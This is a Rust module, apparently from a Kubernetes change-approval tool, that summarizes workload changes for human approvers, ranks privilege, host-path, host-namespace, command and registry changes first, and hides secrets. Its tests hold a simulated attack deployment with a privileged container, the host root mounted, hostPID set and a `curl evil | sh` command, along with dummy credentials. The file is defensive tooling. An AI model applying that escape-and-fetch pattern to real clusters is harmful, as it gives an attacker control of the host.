//! What a change does, for the people who approve it (SPEC §3 `spec.change.summary`).
//! Computed by countersign from the objects the API server sent, never taken from a
//! requester; security-relevant changes first and by value (privilege, capabilities, host
//! namespaces and paths, volumes, service accounts, commands, init containers and
//! sidecars, image registries), then the rest; secrets never echoed; every piece inert and
//! bounded (`core::inert`).

use std::collections::BTreeSet;

use serde_json::{Map, Value};

use crate::api::{ChangeSummary, FieldChange, ImageChange, Risk};
use crate::core::change::{containers, gated_content, is_workload, object_ref, pod_spec};
use crate::core::inert;
use crate::core::policy::secrets::{detect_credential, scan_arguments};

/// At most this many changes are listed with their values; security-relevant ones first,
/// so only a change that makes more security-relevant changes than this has one unlisted
/// (and says so).
pub const MAX_LISTED_CHANGES: usize = 64;
/// At most this many changed paths are listed in `changedPaths`.
const MAX_CHANGED_PATHS: usize = 50;
/// The longest value shown before or after a change.
pub const MAX_VALUE_CHARS: usize = 200;
/// The longest image reference shown.
pub const MAX_IMAGE_CHARS: usize = 300;
/// The longest path shown.
const MAX_PATH_CHARS: usize = 300;
/// The longest one-line summary.
const MAX_TEXT_CHARS: usize = 1000;
/// Other (not security-relevant) paths named in the one-line summary.
const OTHER_PATHS_IN_TEXT: usize = 3;

/// What changed from `old` (absent on CREATE) to `new`, for people.
pub fn summarize(old: Option<&Value>, new: &Value, ignore_fields: &[String]) -> ChangeSummary {
    let images = image_changes(old, new);
    let new_gated = gated_content(new, ignore_fields);
    let old_gated = old.map(|old| gated_content(old, ignore_fields));
    let root: Vec<String> = if is_workload(new) {
        vec!["spec".into()]
    } else {
        Vec::new()
    };
    let context = Context {
        redact_all: is_secret(new),
        old: old_gated.as_ref(),
        new: &new_gated,
        root_len: root.len(),
    };
    let mut raw = Vec::new();
    let mut path = root.clone();
    diff(
        old_gated.as_ref(),
        Some(&new_gated),
        &mut path,
        Origin::Both,
        &context,
        &mut raw,
    );

    let mut changed_paths: Vec<String> = match old {
        Some(_) => raw.iter().map(|c| pointer(&c.path)).collect(),
        None => vec![if root.is_empty() {
            "/".to_string()
        } else {
            pointer(&root)
        }],
    };
    changed_paths.dedup();
    if changed_paths.len() > MAX_CHANGED_PATHS {
        changed_paths.truncate(MAX_CHANGED_PATHS);
        changed_paths.push("…".to_string());
    }

    let mut changes: Vec<FieldChange> = raw
        .iter()
        .map(|change| FieldChange {
            path: inert::bounded(&pointer(&change.path), MAX_PATH_CHARS),
            risk: change.risk,
            before: change.before.clone(),
            after: change.after.clone(),
        })
        .collect();
    // Security-relevant first (in the order of `Risk`), then the rest, each by path.
    changes.sort_by(|a, b| {
        (a.risk.is_none(), a.risk, &a.path).cmp(&(b.risk.is_none(), b.risk, &b.path))
    });
    let risks: Vec<Risk> = changes
        .iter()
        .filter_map(|c| c.risk)
        .collect::<BTreeSet<_>>()
        .into_iter()
        .collect();
    let unlisted = changes.len().saturating_sub(MAX_LISTED_CHANGES);
    let unlisted_risky = changes
        .iter()
        .skip(MAX_LISTED_CHANGES)
        .filter(|c| c.risk.is_some())
        .count();
    changes.truncate(MAX_LISTED_CHANGES);

    let text = one_line(new, old.is_none(), &images, &risks, &raw, unlisted_risky);
    ChangeSummary {
        text,
        images,
        changed_paths,
        changes,
        risks,
        unlisted: u32::try_from(unlisted).unwrap_or(u32::MAX),
    }
}

/// `Deployment shop/web: security-relevant: privilege, host path; image web a → b; changed
/// /spec/x and 2 more`: every kind of security-relevant change is named, only the rest may
/// fall into "N more".
fn one_line(
    new: &Value,
    created: bool,
    images: &[ImageChange],
    risks: &[Risk],
    raw: &[RawChange],
    unlisted_risky: usize,
) -> String {
    let mut parts = Vec::new();
    if created {
        parts.push("created".to_string());
    }
    if !risks.is_empty() {
        let labels: Vec<&str> = risks.iter().map(|r| r.label()).collect();
        let mut part = format!("security-relevant: {}", labels.join(", "));
        if unlisted_risky > 0 {
            part.push_str(&format!(
                " ({unlisted_risky} of them beyond the {MAX_LISTED_CHANGES} changes a request lists: inspect the object)"
            ));
        }
        parts.push(part);
    }
    parts.extend(images.iter().map(|c| {
        format!(
            "image {} {} → {}",
            c.container,
            c.before.as_deref().unwrap_or("(none)"),
            c.after.as_deref().unwrap_or("(removed)")
        )
    }));
    if !created {
        let others: Vec<String> = raw
            .iter()
            .filter(|c| c.risk.is_none() && c.path.last().map(String::as_str) != Some("image"))
            .map(|c| pointer(&c.path))
            .collect::<BTreeSet<_>>()
            .into_iter()
            .collect();
        if !others.is_empty() {
            let shown: Vec<String> = others
                .iter()
                .take(OTHER_PATHS_IN_TEXT)
                .map(|p| inert::bounded(p, 120))
                .collect();
            let mut part = format!("changed {}", shown.join(", "));
            let more = others.len().saturating_sub(OTHER_PATHS_IN_TEXT);
            if more > 0 {
                part.push_str(&format!(" and {more} more"));
            }
            parts.push(part);
        }
    }
    if parts.is_empty() {
        parts.push("no gated change".to_string());
    }
    inert::bounded(
        &format!("{}: {}", inert::text(&object_ref(new)), parts.join("; ")),
        MAX_TEXT_CHARS,
    )
}

/// Container images before and after, by container name; inert and bounded.
fn image_changes(old: Option<&Value>, new: &Value) -> Vec<ImageChange> {
    let before = images(old);
    let after = images(Some(new));
    let shown = |image: &str| inert::bounded(image, MAX_IMAGE_CHARS);
    let mut changes = Vec::new();
    for (name, image) in &after {
        let previous = before.iter().find(|(n, _)| n == name).map(|(_, i)| i);
        if previous != Some(image) {
            changes.push(ImageChange {
                container: inert::text(name),
                before: previous.map(|i| shown(i)),
                after: Some(shown(image)),
            });
        }
    }
    for (name, image) in &before {
        if !after.iter().any(|(n, _)| n == name) {
            changes.push(ImageChange {
                container: inert::text(name),
                before: Some(shown(image)),
                after: None,
            });
        }
    }
    changes
}

fn images(object: Option<&Value>) -> Vec<(String, String)> {
    object
        .and_then(pod_spec)
        .map(|spec| {
            containers(spec)
                .into_iter()
                .map(|(_, c)| {
                    let name = c.get("name").and_then(Value::as_str).unwrap_or("?");
                    let image = c.get("image").and_then(Value::as_str).unwrap_or("");
                    (name.to_string(), image.to_string())
                })
                .collect()
        })
        .unwrap_or_default()
}

/// One changed leaf, as found.
struct RawChange {
    path: Vec<String>,
    risk: Option<Risk>,
    before: Option<String>,
    after: Option<String>,
    /// A value was hidden as a secret.
    hidden: bool,
}

/// Which side(s) a subtree exists on; for one side, the depth of the path where it
/// begins (the added or removed subtree's root).
#[derive(Clone, Copy, PartialEq, Eq)]
enum Origin {
    Both,
    /// Only in the new object: added.
    New(usize),
    /// Only in the old object: removed.
    Old(usize),
}

impl Origin {
    /// The depth at which an added or removed subtree begins.
    fn one_sided_at(self) -> Option<usize> {
        match self {
            Origin::Both => None,
            Origin::New(depth) | Origin::Old(depth) => Some(depth),
        }
    }
}

struct Context<'a> {
    /// A Secret: no value of it is shown.
    redact_all: bool,
    /// The gated contents compared, and how many leading path segments lie above them
    /// (`spec` for workloads), to read a value's neighbours (an env value's name).
    old: Option<&'a Value>,
    new: &'a Value,
    root_len: usize,
}

impl Context<'_> {
    /// The sibling `name` of the value at `path` on the side `origin` says.
    fn sibling_name(&self, path: &[String], origin: Origin) -> Option<&str> {
        let (_, parent) = path.get(self.root_len..)?.split_last()?;
        let pointer: String = parent
            .iter()
            .map(|s| format!("/{}", s.replace('~', "~0").replace('/', "~1")))
            .collect();
        let side = match origin {
            Origin::Old(_) => self.old?,
            _ => self.new,
        };
        side.pointer(&format!("{pointer}/name"))?.as_str()
    }
}

/// The changed leaves between `old` and `new` under `path`. Objects are compared member by
/// member; lists of named objects (containers, volumes, env) by name, other lists of
/// objects by position; lists of plain values (command, args) and plain values as one
/// value. A subtree on one side only goes through [`one_sided`].
fn diff(
    old: Option<&Value>,
    new: Option<&Value>,
    path: &mut Vec<String>,
    origin: Origin,
    context: &Context,
    out: &mut Vec<RawChange>,
) {
    match (old, new) {
        (None, None) => {}
        (Some(_), None) | (None, Some(_)) if origin == Origin::Both => {
            let side = if old.is_some() {
                Origin::Old(path.len())
            } else {
                Origin::New(path.len())
            };
            one_sided(old, new, path, side, context, out);
        }
        (Some(Value::Object(a)), Some(Value::Object(b))) => {
            let keys: BTreeSet<&String> = a.keys().chain(b.keys()).collect();
            for key in keys {
                path.push(key.clone());
                diff(a.get(key), b.get(key), path, origin, context, out);
                path.pop();
            }
        }
        (a, b) if is_list_of_objects(a) && is_list_of_objects(b) => {
            diff_lists(a, b, path, origin, context, out)
        }
        (a, b) if a == b => {}
        (a, b) => out.push(leaf(a, b, path, origin, context)),
    }
}

/// A subtree that exists on one side only (added or removed), listed leaf by leaf, so a
/// new init container's `privileged: true` is seen as such; when none of its leaves is
/// security-relevant or secret, it is one change showing the whole subtree.
fn one_sided(
    old: Option<&Value>,
    new: Option<&Value>,
    path: &mut Vec<String>,
    origin: Origin,
    context: &Context,
    out: &mut Vec<RawChange>,
) {
    let mut leaves = Vec::new();
    flatten(old.or(new), path, origin, context, &mut leaves);
    let plain = leaves
        .iter()
        .all(|leaf| leaf.risk.is_none() && !leaf.hidden);
    if plain && leaves.len() > 1 {
        out.push(leaf(old, new, path, origin, context));
    } else {
        out.extend(leaves);
    }
}

/// Every leaf of `value` (on the side `origin` says) as a change from or to nothing.
fn flatten(
    value: Option<&Value>,
    path: &mut Vec<String>,
    origin: Origin,
    context: &Context,
    out: &mut Vec<RawChange>,
) {
    let Some(value) = value else {
        return;
    };
    let children: Vec<(String, &Value)> = match value {
        Value::Object(map) => map.iter().map(|(k, v)| (k.clone(), v)).collect(),
        Value::Array(items) if items.iter().all(Value::is_object) && !items.is_empty() => items
            .iter()
            .enumerate()
            .map(|(i, v)| (i.to_string(), v))
            .collect(),
        _ => {
            let (old, new) = match origin {
                Origin::Old(_) => (Some(value), None),
                _ => (None, Some(value)),
            };
            out.push(leaf(old, new, path, origin, context));
            return;
        }
    };
    for (key, child) in children {
        path.push(key);
        flatten(Some(child), path, origin, context, out);
        path.pop();
    }
}

fn is_list_of_objects(value: Option<&Value>) -> bool {
    match value {
        None => true,
        Some(Value::Array(items)) => !items.is_empty() && items.iter().all(Value::is_object),
        Some(_) => false,
    }
}

/// Two lists of objects (either may be absent): by `name` when every item has one, else
/// by position. Paths use the new list's index, or the old one's for a removed item.
fn diff_lists(
    old: Option<&Value>,
    new: Option<&Value>,
    path: &mut Vec<String>,
    origin: Origin,
    context: &Context,
    out: &mut Vec<RawChange>,
) {
    let empty = Vec::new();
    let a = old.and_then(Value::as_array).unwrap_or(&empty);
    let b = new.and_then(Value::as_array).unwrap_or(&empty);
    let name = |item: &Value| item.get("name").and_then(Value::as_str).map(str::to_string);
    let named = a.iter().chain(b).all(|item| name(item).is_some());
    if named {
        for (i, item) in b.iter().enumerate() {
            let previous = a.iter().find(|old| name(old) == name(item));
            path.push(i.to_string());
            diff(previous, Some(item), path, origin, context, out);
            path.pop();
        }
        for (i, item) in a.iter().enumerate() {
            if !b.iter().any(|new| name(new) == name(item)) {
                path.push(i.to_string());
                diff(Some(item), None, path, origin, context, out);
                path.pop();
            }
        }
    } else {
        for i in 0..a.len().max(b.len()) {
            path.push(i.to_string());
            diff(a.get(i), b.get(i), path, origin, context, out);
            path.pop();
        }
    }
}

/// One changed value, classified and shown (or hidden, when it looks like a secret).
fn leaf(
    old: Option<&Value>,
    new: Option<&Value>,
    path: &[String],
    origin: Origin,
    context: &Context,
) -> RawChange {
    let risk = classify(path, origin, old, new);
    let mut hidden = false;
    let mut shown = |value: Option<&Value>, side: Origin| {
        value.map(|value| match secret_kind(path, side, value, context) {
            Some(kind) => {
                hidden = true;
                format!("(hidden: {kind})")
            }
            None => inert::bounded(&compact(value), MAX_VALUE_CHARS),
        })
    };
    let before = shown(old, Origin::Old(0));
    let after = shown(new, Origin::New(0));
    RawChange {
        path: path.to_vec(),
        risk,
        before,
        after,
        hidden,
    }
}

/// A value as compact JSON (strings in quotes), so `"true"` and `true` differ.
fn compact(value: &Value) -> String {
    serde_json::to_string(value).unwrap_or_default()
}

/// Is the object a Secret (whose values are never shown)?
fn is_secret(object: &Value) -> bool {
    object.get("kind").and_then(Value::as_str) == Some("Secret")
        && object.get("apiVersion").and_then(Value::as_str) == Some("v1")
}

/// What secret `value` at `path` looks like, if any: a Secret's data, or a credential as
/// `secretDetection` finds them (an env value under its variable's name, an argument list,
/// any string under its key's name).
fn secret_kind(path: &[String], side: Origin, value: &Value, context: &Context) -> Option<String> {
    if context.redact_all {
        return Some("a Secret's content".into());
    }
    let key = path.last().map(String::as_str).unwrap_or_default();
    match value {
        Value::String(text) => {
            let name = match path {
                [.., env, _, field] if env == "env" && field == "value" => {
                    context.sibling_name(path, side)
                }
                _ => Some(key),
            };
            detect_credential(name.filter(|n| n.parse::<usize>().is_err()), text)
                .map(|kind| format!("looks like a {kind}"))
        }
        Value::Array(items) => {
            let words: Vec<&str> = items.iter().filter_map(Value::as_str).collect();
            scan_arguments(key, &words)
                .first()
                .map(|finding| format!("looks like a {}", finding.kind))
        }
        Value::Object(map) => object_secret(map),
        _ => None,
    }
}

/// An env entry `{name, value}` shown whole: hidden when its value is a credential under
/// its name.
fn object_secret(map: &Map<String, Value>) -> Option<String> {
    let name = map.get("name").and_then(Value::as_str);
    let value = map.get("value").and_then(Value::as_str)?;
    detect_credential(name, value).map(|kind| format!("looks like a {kind}"))
}

/// The kind of security-relevant change at `path`, if it is one.
fn classify(
    path: &[String],
    origin: Origin,
    old: Option<&Value>,
    new: Option<&Value>,
) -> Option<Risk> {
    let has = |names: &[&str]| path.iter().any(|s| names.contains(&s.as_str()));
    let last = path.last().map(String::as_str).unwrap_or_default();
    let in_list = |list: &str| path.iter().any(|s| s == list);
    if has(&[
        "hostPID",
        "hostIPC",
        "hostNetwork",
        "hostUsers",
        "shareProcessNamespace",
    ]) || last == "hostPort"
    {
        return Some(Risk::HostNamespaces);
    }
    if has(&["hostPath"]) {
        return Some(Risk::HostPath);
    }
    if has(&["capabilities"]) {
        return Some(Risk::Capabilities);
    }
    if has(&["securityContext", "runtimeClassName"]) {
        return Some(Risk::Privilege);
    }
    if has(&["volumes", "volumeMounts", "volumeDevices"]) {
        return Some(Risk::Volumes);
    }
    if has(&[
        "serviceAccountName",
        "serviceAccount",
        "automountServiceAccountToken",
    ]) {
        return Some(Risk::ServiceAccount);
    }
    if in_list("initContainers") {
        if has(&["command", "args", "lifecycle"]) {
            return Some(Risk::Command);
        }
        return Some(Risk::InitContainer);
    }
    if has(&["command", "args", "lifecycle"]) {
        return Some(Risk::Command);
    }
    if in_list("ephemeralContainers") {
        return Some(Risk::Sidecar);
    }
    if last == "image" && registry_changed(old, new) {
        return Some(Risk::ImageRegistry);
    }
    // A whole container (or the list of them) added or removed next to the others.
    let whole_container = origin.one_sided_at().is_some_and(|depth| {
        let root = &path[..depth.min(path.len())];
        matches!(root, [.., list] if list == "containers")
            || matches!(root, [.., list, _] if list == "containers")
    });
    if whole_container {
        return Some(Risk::Sidecar);
    }
    None
}

/// Did an image of a container that was there before move to another registry? (A new
/// container is a sidecar or init container of its own.)
fn registry_changed(old: Option<&Value>, new: Option<&Value>) -> bool {
    fn registry(image: Option<&Value>) -> Option<&str> {
        image.and_then(Value::as_str).map(image_registry)
    }
    match (registry(old), registry(new)) {
        (Some(a), Some(b)) => a != b,
        _ => false,
    }
}

/// The registry of an image reference, as container runtimes read it: the first
/// component when it has a dot or a port or is `localhost`, else Docker Hub.
pub fn image_registry(image: &str) -> &str {
    match image.split_once('/') {
        Some((first, _)) if first.contains(['.', ':']) || first == "localhost" => first,
        _ => "docker.io",
    }
}

/// A JSON pointer (RFC 6901) of path segments.
fn pointer(path: &[String]) -> String {
    if path.is_empty() {
        return "/".into();
    }
    path.iter()
        .map(|s| format!("/{}", s.replace('~', "~0").replace('/', "~1")))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::core::test_builders::hostile_corpus;
    use serde_json::json;

    fn deployment(image: &str) -> Value {
        json!({
            "apiVersion": "apps/v1", "kind": "Deployment",
            "metadata": {"name": "web", "namespace": "shop", "resourceVersion": "1"},
            "spec": {
                "replicas": 2,
                "selector": {"matchLabels": {"app": "web"}},
                "template": {
                    "metadata": {"labels": {"app": "web"}},
                    "spec": {"containers": [{"name": "web", "image": image}]}
                }
            }
        })
    }

    fn ignore() -> Vec<String> {
        vec!["/spec/replicas".to_string()]
    }

    /// dave's change in the attack: an image bump that also makes the Pod privileged with
    /// the host's root mounted, a new init container and a new command.
    fn dangerous(old: &Value) -> Value {
        let mut new = old.clone();
        let pod = &mut new["spec"]["template"]["spec"];
        pod["containers"][0]["image"] = json!("registry.example.com/shop/web:1.5.0");
        pod["containers"][0]["securityContext"] = json!({"privileged": true});
        pod["containers"][0]["command"] = json!(["sh", "-c", "curl evil | sh"]);
        pod["hostPID"] = json!(true);
        pod["volumes"] = json!([{"name": "root", "hostPath": {"path": "/"}}]);
        pod["containers"][0]["volumeMounts"] = json!([{"name": "root", "mountPath": "/host"}]);
        pod["initContainers"] = json!([{"name": "init", "image": "busybox",
            "securityContext": {"privileged": true}}]);
        pod["containers"][0]["env"] = json!([{"name": "LOG_LEVEL", "value": "debug"}]);
        new
    }

    #[test]
    fn security_relevant_changes_come_first_by_value() {
        let old = deployment("registry.example.com/shop/web:1.4.2");
        let summary = summarize(Some(&old), &dangerous(&old), &ignore());
        assert_eq!(
            summary.risks,
            vec![
                Risk::Privilege,
                Risk::HostNamespaces,
                Risk::HostPath,
                Risk::Volumes,
                Risk::Command,
                Risk::InitContainer,
            ]
        );
        let first_plain = summary
            .changes
            .iter()
            .position(|c| c.risk.is_none())
            .expect("a plain change");
        assert!(
            summary.changes[first_plain..]
                .iter()
                .all(|c| c.risk.is_none()),
            "{:#?}",
            summary.changes
        );
        let find = |path: &str| {
            summary
                .changes
                .iter()
                .find(|c| c.path == path)
                .unwrap_or_else(|| panic!("{path} in {:#?}", summary.changes))
        };
        let privileged = find("/spec/template/spec/containers/0/securityContext/privileged");
        assert_eq!(
            (
                privileged.risk,
                privileged.before.as_deref(),
                privileged.after.as_deref()
            ),
            (Some(Risk::Privilege), None, Some("true"))
        );
        let host_pid = find("/spec/template/spec/hostPID");
        assert_eq!(host_pid.after.as_deref(), Some("true"));
        assert_eq!(
            find("/spec/template/spec/volumes/0/hostPath/path")
                .after
                .as_deref(),
            Some("\"/\"")
        );
        assert_eq!(
            find("/spec/template/spec/initContainers/0/securityContext/privileged").risk,
            Some(Risk::Privilege)
        );
        assert_eq!(
            find("/spec/template/spec/containers/0/command")
                .after
                .as_deref(),
            Some("[\"sh\",\"-c\",\"curl evil | sh\"]")
        );
        assert_eq!(
            summary.text,
            "Deployment shop/web: security-relevant: privilege, host namespaces, host path, volumes, command and args, init containers; \
             image init (none) → busybox; \
             image web registry.example.com/shop/web:1.4.2 → registry.example.com/shop/web:1.5.0; \
             changed /spec/template/spec/containers/0/env"
        );
    }

    #[test]
    fn an_honest_image_bump_reads_as_before() {
        let old = deployment("nginx:1.25");
        let mut new = deployment("nginx:1.27");
        new["spec"]["template"]["spec"]["containers"][0]["env"] =
            json!([{"name": "A", "value": "1"}]);
        let summary = summarize(Some(&old), &new, &ignore());
        assert_eq!(
            summary.text,
            "Deployment shop/web: image web nginx:1.25 → nginx:1.27; changed /spec/template/spec/containers/0/env"
        );
        assert!(summary.risks.is_empty());
        assert_eq!(
            summary.changed_paths,
            vec![
                "/spec/template/spec/containers/0/env".to_string(),
                "/spec/template/spec/containers/0/image".to_string(),
            ]
        );
        let created = summarize(None, &new, &ignore());
        assert_eq!(
            created.text,
            "Deployment shop/web: created; image web (none) → nginx:1.27"
        );
    }

    #[test]
    fn registries_and_sidecars_are_security_relevant() {
        let old = deployment("registry.example.com/web:1");
        let cases: Vec<(&str, Value, Risk)> = vec![
            (
                "another registry",
                deployment("evil.example/web:1"),
                Risk::ImageRegistry,
            ),
            ("docker hub", deployment("web:1"), Risk::ImageRegistry),
            (
                "a sidecar",
                {
                    let mut new = old.clone();
                    new["spec"]["template"]["spec"]["containers"]
                        .as_array_mut()
                        .expect("containers")
                        .push(json!({"name": "tap", "image": "registry.example.com/tap:1"}));
                    new
                },
                Risk::Sidecar,
            ),
            (
                "another service account",
                {
                    let mut new = old.clone();
                    new["spec"]["template"]["spec"]["serviceAccountName"] = json!("admin");
                    new
                },
                Risk::ServiceAccount,
            ),
            (
                "a capability",
                {
                    let mut new = old.clone();
                    new["spec"]["template"]["spec"]["containers"][0]["securityContext"] =
                        json!({"capabilities": {"add": ["SYS_ADMIN"]}});
                    new
                },
                Risk::Capabilities,
            ),
        ];
        for (what, new, risk) in cases {
            let summary = summarize(Some(&old), &new, &ignore());
            assert_eq!(summary.risks, vec![risk], "{what}: {:#?}", summary.changes);
        }
        // A new tag in the same registry is an ordinary image change.
        let same = summarize(
            Some(&old),
            &deployment("registry.example.com/web:2"),
            &ignore(),
        );
        assert!(same.risks.is_empty(), "{:#?}", same.changes);
        assert_eq!(image_registry("nginx"), "docker.io");
        assert_eq!(image_registry("localhost/x"), "localhost");
        assert_eq!(image_registry("r.example:5000/x"), "r.example:5000");
    }

    #[test]
    fn secrets_are_never_echoed() {
        let old = deployment("nginx:1");
        let mut new = old.clone();
        new["spec"]["template"]["spec"]["containers"][0]["env"] = json!([
            {"name": "AWS_ACCESS_KEY_ID", "value": "AKIAIOSFODNN7EXAMPLE"},
            {"name": "DB_PASSWORD", "value": "hunter2-correct-horse-battery"},
            {"name": "LOG_LEVEL", "value": "debug"},
        ]);
        new["spec"]["template"]["spec"]["containers"][0]["args"] =
            json!(["--token", "ghp_0123456789abcdefghijklmnopqrstuvwxyzAB"]);
        let summary = summarize(Some(&old), &new, &ignore());
        let shown = serde_json::to_string(&summary).expect("json");
        for secret in [
            "AKIAIOSFODNN7EXAMPLE",
            "hunter2-correct-horse-battery",
            "ghp_0123456789",
        ] {
            assert!(!shown.contains(secret), "{secret} in {shown}");
        }
        assert!(shown.contains("debug"), "{shown}");
        assert!(shown.contains("(hidden: looks like a"), "{shown}");
        let secret = json!({"apiVersion": "v1", "kind": "Secret",
            "metadata": {"name": "s", "namespace": "shop"}, "data": {"k": "c2VjcmV0"}});
        let summary = summarize(None, &secret, &[]);
        assert!(
            !serde_json::to_string(&summary)
                .expect("json")
                .contains("c2VjcmV0")
        );
    }

    #[test]
    fn hostile_text_is_inert_and_bounded_in_every_field() {
        for (what, hostile) in hostile_corpus() {
            let old = deployment("nginx:1");
            let mut new = deployment(&hostile);
            new["spec"]["template"]["spec"]["containers"][0]["env"] =
                json!([{"name": "NOTE", "value": hostile}]);
            new["spec"]["template"]["spec"]["containers"][0]["name"] = json!(hostile);
            let summary = summarize(Some(&old), &new, &ignore());
            let text = serde_json::to_value(&summary).expect("json");
            let mut strings = Vec::new();
            collect_strings(&text, &mut strings);
            for s in strings {
                assert!(!s.chars().any(inert::is_unsafe), "{what}: {s:?}");
                assert!(s.chars().count() <= MAX_TEXT_CHARS, "{what}");
            }
        }
    }

    fn collect_strings(value: &Value, out: &mut Vec<String>) {
        match value {
            Value::String(s) => out.push(s.clone()),
            Value::Array(items) => items.iter().for_each(|v| collect_strings(v, out)),
            Value::Object(map) => map.values().for_each(|v| collect_strings(v, out)),
            _ => {}
        }
    }

    #[test]
    fn a_flood_of_changes_keeps_every_kind_of_risk_named() {
        let env = |value: &str| -> Value {
            (0..500)
                .map(|i| json!({"name": format!("V{i:03}"), "value": value}))
                .collect()
        };
        let mut old = deployment("nginx:1");
        old["spec"]["template"]["spec"]["containers"][0]["env"] = env("x");
        let mut new = old.clone();
        new["spec"]["template"]["spec"]["containers"][0]["env"] = env("y");
        new["spec"]["template"]["spec"]["hostNetwork"] = json!(true);
        let summary = summarize(Some(&old), &new, &ignore());
        assert_eq!(summary.changes.len(), MAX_LISTED_CHANGES);
        assert_eq!(summary.changes[0].risk, Some(Risk::HostNamespaces));
        assert_eq!(summary.unlisted as usize, 501 - MAX_LISTED_CHANGES);
        assert!(summary.text.contains("security-relevant: host namespaces"));
        assert!(summary.text.contains("and 497 more"), "{}", summary.text);
    }
}
